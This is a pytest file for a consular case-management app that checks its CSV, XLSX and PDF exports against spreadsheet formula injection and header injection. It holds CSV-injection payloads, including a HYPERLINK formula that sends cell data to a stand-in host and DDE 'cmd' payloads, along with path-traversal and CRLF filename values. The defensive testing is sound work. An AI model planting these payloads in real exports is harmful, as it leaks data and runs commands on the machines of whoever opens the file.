"""Every export opens safely in a spreadsheet: a cell that looks like a formula is text, and a
download keeps its Hangul name. Each export path is tried with values a host list, an employer
or an officer could have typed."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from consular.cases.models import Case
from consular.cli.main import app
from consular.db import unit_of_work
from consular.exports import csv_text, neutralised, write_xlsx
from consular.flights.service import assign, create_flight
from consular.web.deps import attachment_headers
from tests.cli.test_commands import run
from tests.conftest import World
from tests.flights.test_flights import PLAN, _three_cases
from tests.flights.test_pages import pdf_text
from tests.screening.test_screen_cli import HEADER as PLAN_HEADER
from tests.screening.test_screen_cli import PLAN as PLAN_ROWS
from tests.web.client import sign_in

# What OWASP lists as starting a formula, each as an attacker would send it.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _is_safe(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_formula_in_any_cell_is_written_as_text_and_reads_back_whole() -> None:
    rows = [["value"], *([formula] for formula in FORMULAS), [-5], [2.5], ['a, b "quoted"']]
    cells = _cells(csv_text(rows))
    assert all(_is_safe(row[0]) for row in cells[:7])
    assert [row[0][1:] for row in cells[1:7]] == FORMULAS  # the apostrophe, then the value
    assert cells[7:] == [["-5"], ["2.5"], ['a, b "quoted"']]  # numbers stay numbers
    assert csv_text([["x"]]).startswith('\ufeff"x"')  # quoted, with a byte-order mark
    assert neutralised(None) == "" and neutralised("이성호") == "이성호"


def test_an_xlsx_export_holds_text_cells_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [["value", "count"], *([formula, 3] for formula in FORMULAS)])
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.value for c in cells if c.column == 1] == [f.replace("\r", "\n") for f in FORMULAS]
    assert {c.data_type for c in cells if c.column == 1} == {"s"}
    assert {c.value for c in cells if c.column == 2} == {3}


@pytest.mark.parametrize(
    ("name", "ascii_name", "utf8_name"),
    [
        ("계획-screened.csv", "screened.csv", "계획-screened.csv"),
        ("계획.csv", "download.csv", "계획.csv"),
        ("manifest-대한036-20250911.pdf", "manifest-036-20250911.pdf", None),
        ("../../etc/passwd", "etc_passwd", "etc_passwd"),
        ('a"b\r\nSet-Cookie: x=1.csv', "a_b_Set-Cookie_x_1.csv", "a_b_Set-Cookie: x=1.csv"),
    ],
)
def test_a_download_name_is_sent_as_ascii_and_as_utf8_and_cannot_break_the_header(
    name: str, ascii_name: str, utf8_name: str | None
) -> None:
    header = attachment_headers(name)["Content-Disposition"]
    assert "\r" not in header and "\n" not in header
    plain, extended = header.split("; filename*=UTF-8''")
    assert plain == f'attachment; filename="{ascii_name}"'
    assert unquote(extended) == (utf8_name or name)


def test_the_cases_csv_page_neutralises_a_facility_from_a_host_list(
    browser: TestClient, factory: sessionmaker[Session], world: World
) -> None:
    lee, park, _ = _three_cases(factory, world)
    with unit_of_work(factory) as db:
        for case_id, facility in ((lee, FORMULAS[0]), (park, FORMULAS[3])):
            case = db.get(Case, case_id)
            assert case is not None
            case.facility = facility
    sign_in(browser)
    export = browser.get(f"/incidents/{world.incident_id}/cases.csv")
    assert export.status_code == 200
    rows = _cells(export.content.decode("utf-8"))
    facilities = [row[rows[0].index("구금 시설")] for row in rows[1:]]
    assert "'" + FORMULAS[0] in facilities and "'" + FORMULAS[3] in facilities
    assert all(_is_safe(cell) for row in rows for cell in row)


def test_the_manifest_exports_neutralise_special_needs_and_keep_a_hangul_flight_number(
    browser: TestClient, db_url: str, factory: sessionmaker[Session], world: World
) -> None:
    lee, park, _ = _three_cases(factory, world)
    with unit_of_work(factory) as db:
        flight = create_flight(
            db, world.officer, world.incident_id, dataclasses.replace(PLAN, number="대한036")
        )
        for case_id in (lee, park):
            assign(db, world.officer, flight.id, case_id)
        case = db.get(Case, park)
        assert case is not None
        case.special_needs = FORMULAS[1]
        flight_id = flight.id
    sign_in(browser)
    answer = browser.get(f"/flights/{flight_id}/manifest.csv")
    assert answer.status_code == 200
    disposition = answer.headers["content-disposition"]
    assert "filename*=UTF-8''" in disposition
    assert unquote(disposition.split("''")[1]).startswith("manifest-대한036-")
    rows = _cells(answer.content.decode("utf-8"))
    assert rows[2][rows[0].index("특별 지원 필요 사항")] == "'" + FORMULAS[1]
    pdf = browser.get(f"/flights/{flight_id}/manifest.pdf")
    assert pdf.status_code == 200 and "filename*=UTF-8''" in pdf.headers["content-disposition"]
    code, out, err = run(db_url, "flight", "manifest", flight_id, "--format", "csv")
    assert code == 0, err
    assert "'" + FORMULAS[1] in [row[-1] for row in _cells(out)]


def test_a_long_unbroken_special_needs_note_still_prints_in_the_manifest_pdf(
    browser: TestClient, factory: sessionmaker[Session], world: World
) -> None:
    lee, park, _ = _three_cases(factory, world)
    with unit_of_work(factory) as db:
        flight = create_flight(db, world.officer, world.incident_id, PLAN)
        for case_id in (lee, park):
            assign(db, world.officer, flight.id, case_id)
        for case_id, note in ((lee, "휠체어" * 166), (park, "W" * 500)):
            case = db.get(Case, case_id)
            assert case is not None
            case.special_needs = note  # the longest a note may be, with no space to break at
        flight_id = flight.id
    sign_in(browser)
    for language in ("ko", "en"):
        pdf = browser.get(
            f"/flights/{flight_id}/manifest.pdf", headers={"Accept-Language": language}
        )
        assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
        lines = pdf_text(pdf.content).splitlines()
        wrapped = [line for line in lines if set(line) == {"W"}]
        assert len(wrapped) > 1 and sum(map(len, wrapped)) == 500  # wrapped inside its cell


def test_the_screened_plan_page_and_command_neutralise_an_employers_ids(
    browser: TestClient, factory: sessionmaker[Session], world: World, tmp_path: Path
) -> None:
    from tests.factories import user_with_token
    from tests.web.client import form_token

    rows = [f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}"{PLAN_ROWS[0][5:]}', PLAN_ROWS[1]]
    plan = "\n".join([PLAN_HEADER, *rows]) + "\n"
    user_with_token(factory, "hr.battery", "employer_hr", employer="HL Battery")
    sign_in(browser, name="hr.battery")
    page = browser.get("/deployments").text
    answer = browser.post(
        "/deployments/screen",
        data={"csrf_token": form_token(page)},
        files={"file": ("계획.csv", plan.encode())},
    )
    assert answer.status_code == 200, answer.text
    assert unquote(answer.headers["content-disposition"].split("''")[1]) == "계획-screened.csv"
    cells = _cells(answer.content.decode("utf-8"))
    assert cells[1][0] == "'" + FORMULAS[0]
    assert all(_is_safe(cell) for row in cells for cell in row)
    source = tmp_path / "plan.csv"
    source.write_text(plan, encoding="utf-8")
    result = CliRunner().invoke(app, ["screen", str(source), "-o", str(tmp_path / "out.xlsx")])
    assert result.exit_code == 0, result.stderr
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    assert sheet["A2"].value == FORMULAS[0] and sheet["A2"].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_match_and_the_cases_table_on_the_command_line_neutralise_their_cells(
    db_url: str, factory: sessionmaker[Session], world: World, tmp_path: Path
) -> None:
    registry = tmp_path / "registry.csv"
    registry.write_text(
        "id,family_name,given_name,date_of_birth\n=R1,LEE,SEONGHO,1988-03-14\n", encoding="utf-8"
    )
    listing = tmp_path / "list.csv"
    listing.write_text(
        'id,full_name,date_of_birth\n@L1,"LEE, SEONGHO",1988-03-14\n', encoding="utf-8"
    )
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(app, ["match", str(registry), str(listing), "-o", str(out)])
    assert result.exit_code == 0, result.stderr
    rows = _cells(out.read_text(encoding="utf-8"))
    assert rows[1][:3] == ["'@L1", "'=R1", "match"]
    lee, _, _ = _three_cases(factory, world)
    with unit_of_work(factory) as db:
        case = db.get(Case, lee)
        assert case is not None
        case.facility = FORMULAS[2]
    code, listed, err = run(
        db_url, "cases", "list", "--incident", world.incident_id, "--format", "csv"
    )
    assert code == 0, err
    cells = _cells(listed)
    assert "'" + FORMULAS[2] in [row[cells[0].index("Facility")] for row in cells[1:]]
    with factory() as db:
        assert db.scalar(select(Case.facility).where(Case.id == lee)) == FORMULAS[2]
